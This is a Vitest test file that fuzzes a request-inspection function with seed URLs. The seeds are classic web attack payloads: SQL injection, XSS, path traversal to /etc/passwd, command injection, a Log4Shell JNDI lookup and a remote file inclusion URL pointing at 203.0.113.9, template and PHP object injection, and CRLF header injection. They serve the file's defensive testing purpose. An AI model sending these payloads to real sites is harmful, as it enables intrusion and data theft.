import { describe, expect, it } from 'vitest';
import { fuzzInspector } from './fuzz-inspector.ts';

const SEEDS = [
  '/search?q=%E3%83%AF%E3%83%B3%E3%83%94%E3%83%BC%E3%82%B9&sort=new',
  '/search?q=%83%5C%83%7C&page=2',
  "/item?id=1'%20union/**/select%201,2--%20-",
  '/item?id=1+or+1=1',
  '/?q="><img%20src=x%20onerror=alert(1)>',
  '/download?file=..%2f..%2fetc%2fpasswd%00.jpg',
  '/ping?host=127.0.0.1;cat%20/etc/hosts',
  '/?x=${jndi:ldap://203.0.113.9/a}',
  '/?x={{7*7}}&y=O:4:"Evil":0:{}',
  '/upload/save_image/a.php?cmd=id',
  '/.git/config',
  '/a%0d%0aSet-Cookie:%20a=b',
  '/?page=http://203.0.113.9/x.txt?',
  '/\\x16\\x03\\x01',
  '/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

describe('fuzzInspector', () => {
  it('breaks no promise, and meets enough hostile requests to mean something', () => {
    const { broken, hostile } = fuzzInspector(20_260_701, 4000, SEEDS);
    expect(broken).toEqual([]);
    expect(hostile).toBeGreaterThan(1000);
  });

  it('does the same for the same seed', () => {
    expect(fuzzInspector(5, 100, SEEDS)).toEqual(fuzzInspector(5, 100, SEEDS));
  });
});
